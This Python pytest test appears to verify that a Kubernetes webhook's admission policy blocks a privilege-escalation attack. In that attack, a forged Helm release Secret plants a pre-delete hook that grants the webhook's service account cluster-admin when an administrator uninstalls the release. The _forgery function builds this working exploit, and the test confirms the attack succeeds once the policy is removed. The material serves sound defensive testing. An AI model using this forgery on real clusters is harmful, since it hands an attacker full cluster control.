"""Somebody who has the token of the webhook's account, and waits until an administrator runs Helm: what SECURITY.md says."""

import base64
import gzip
import json
from pathlib import Path
from typing import Any, Final

import httpx
import pytest

from tests.cluster.cluster import Cluster
from tests.cluster.tied import until
from tests.deploy.applied import helm, kubeconfig, make_namespace, release
from tests.deploy.consistent import Installation
from tests.deploy.rendered import Installers, read

NAME: Final = "dpdk-webhook"
BINDING: Final = f"/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/{NAME}-account"
STOLEN: Final = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/stolen"
HOOK: Final = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "stolen"},
    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": NAME, "namespace": NAME}],
}
LABELS: Final = {"owner": "helm", "name": NAME, "status": "deployed", "version": "99"}


@pytest.mark.parametrize("program", ["helm", "helm3"])
def test_a_forged_release_makes_its_author_administrator_and_the_policy_refuses_it(
    own_cluster: Cluster, installers: Installers, tmp_path: Path, program: str
) -> None:
    make_namespace(own_cluster, NAME)
    assert helm(own_cluster, installers, program, *release("install", NAME, NAME)).returncode == 0
    try:
        account = kubeconfig(own_cluster, Installation(read(installers.helm())), tmp_path / "stolen.kubeconfig")
        forgery = json.dumps(_forgery(own_cluster))
        steal = ("replace", "--kubeconfig", account, "-f", "-")

        def refused() -> bool:
            said = own_cluster.kubectl(*steal, "--dry-run=server", input=forgery, check=False)
            return said.returncode != 0 and "the webhook's account may change nothing of the metadata" in said.stderr

        until(refused, seconds=20, waiting_for="the policy")
        assert own_cluster.kubectl(*steal, input=forgery, check=False).returncode != 0
        assert own_cluster.api("DELETE", BINDING).status == httpx.codes.OK
        until(lambda: not refused(), seconds=20, waiting_for="the policy to be gone")
        own_cluster.kubectl(*steal, input=forgery)
    finally:
        helm(own_cluster, installers, program, "uninstall", NAME, "--namespace", NAME)
    assert own_cluster.api("GET", STOLEN).status == httpx.codes.OK
    own_cluster.api("DELETE", STOLEN)
    own_cluster.kubectl("delete", "secret", "--all", "--namespace", NAME)


def _forgery(cluster: Cluster) -> dict[str, Any]:
    """The webhook's own Secret as a release of Helm's, the newest, with a hook."""
    secrets = f"/api/v1/namespaces/{NAME}/secrets"
    stored = base64.b64decode(cluster.api("GET", f"{secrets}/sh.helm.release.v1.{NAME}.v1").body["data"]["release"])
    forged: dict[str, Any] = json.loads(gzip.decompress(base64.b64decode(stored)))
    hook = {"name": "x", "kind": HOOK["kind"], "path": "x", "manifest": json.dumps(HOOK), "events": ["pre-delete"]}
    forged |= {"version": int(LABELS["version"]), "hooks": [hook]}
    own = cluster.api("GET", f"{secrets}/{NAME}-tls").body
    own["metadata"]["labels"] |= LABELS
    text = base64.b64encode(gzip.compress(json.dumps(forged).encode()))
    return own | {"data": {"release": base64.b64encode(text).decode()}}
